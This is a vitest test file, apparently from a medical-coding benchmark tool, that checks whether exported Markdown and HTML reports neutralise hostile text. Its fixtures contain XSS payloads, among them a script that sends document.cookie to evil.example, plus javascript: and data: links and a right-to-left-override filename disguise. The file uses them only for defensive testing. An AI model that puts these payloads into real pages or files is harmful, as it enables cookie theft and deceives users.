import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importDataset } from '../../src/core/data/import';
import { importPredictions } from '../../src/core/data/predictions-import';
import { buildReport, mdText, renderReportMarkdown } from '../../src/core/export/report';
import { renderReportHtml } from '../../src/core/export/report-html';
import { openStore, type WritableDb } from '../../src/core/store/database';
import { annotationsCsv, notesCsv, spansOf, tempDir, writeFile } from '../helpers/mimic-files';

/**
 * Output that can mislead or act (issue 16 §7): the Markdown report copied raw HTML and javascript: links, even the
 * shareable one; a right-to-left override in a run name or a description showed unneutralised.
 */
let dir: string;
let db: WritableDb;
const NOTE = 'Brief Hospital Course:\nThe patient has atrial fibrillation.\nBlood pressure was high.\n';
const RUN = 'invoice\u202egnp.exe';
const HOSTILE_DESC = '<img src=x onerror=alert(1)> [click](javascript:alert(1)) <a href="javascript:alert(2)">x</a>';
const HOSTILE_RATIONALE = '<script>fetch("http://evil.example/?"+document.cookie)</script> ![x](data:text/html;base64,PHNjcmlwdD4=) [y](JaVaScRiPt:alert(3))';

beforeAll(async () => {
  dir = tempDir('medbench-report-text-');
  db = openStore(path.join(dir, 'report.db'));
  const notes = writeFile(dir, 'notes.csv', notesCsv([{ subjectId: '1', hadmId: '10', text: NOTE }]));
  const annotations = writeFile(
    dir,
    'ann.csv',
    annotationsCsv([
      { taskId: '1_10', code: 'I48.91', desc: HOSTILE_DESC, gold: true, spans: spansOf(NOTE, 'atrial fibrillation') },
      { taskId: '1_10', code: 'I10', desc: 'Hypertension \u202eesnetrepyh', gold: true, spans: spansOf(NOTE, 'Blood pressure was high') },
    ]),
  );
  await importDataset(db, { annotations, notes, format: 'raw' });
  const rationale = `"${HOSTILE_RATIONALE.replaceAll('"', '""')}"`;
  const file = writeFile(dir, 'preds.csv', `task_id,code,prediction,evidence,rationale\n1_10,I48.91,True,[],${rationale}\n1_10,I10,False,[],${rationale}\n`);
  await importPredictions(db, { file, name: RUN });
});
afterAll(() => {
  db.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('the Markdown report is inert', () => {
  it.each([false, true])('with includeText %s: no raw HTML, no javascript: or data: link, no bidi override', (includeText) => {
    const md = renderReportMarkdown(buildReport(db, RUN, { includeText, resamples: 50, seed: 1 }));
    expect(md).not.toMatch(/<(img|script|a)\b/i);
    expect(md).not.toMatch(/\]\(/);
    expect(md).not.toMatch(/(javascript|data)\s*:/i);
    expect(md).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    // The text is still there to read.
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    if (includeText) expect(md).toContain('&lt;script&gt;');
  });

  it('mdText keeps ordinary text readable and cannot be broken out of a table cell', () => {
    expect(mdText('Atrial fibrillation (unspecified), I48.91')).toBe('Atrial fibrillation (unspecified), I48.91');
    expect(mdText('a | b')).toBe('a \\| b');
    expect(mdText('a \\| b')).toBe('a \\\\\\| b');
    expect(mdText('line\nbreak')).toBe('line break');
  });
});

describe('the HTML report neutralises bidi overrides', () => {
  it('in the run name and the descriptions', () => {
    const html = renderReportHtml(buildReport(db, RUN, { resamples: 50, seed: 1 }));
    expect(html).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    expect(html).toContain('invoice\ufffdgnp.exe');
  });
});
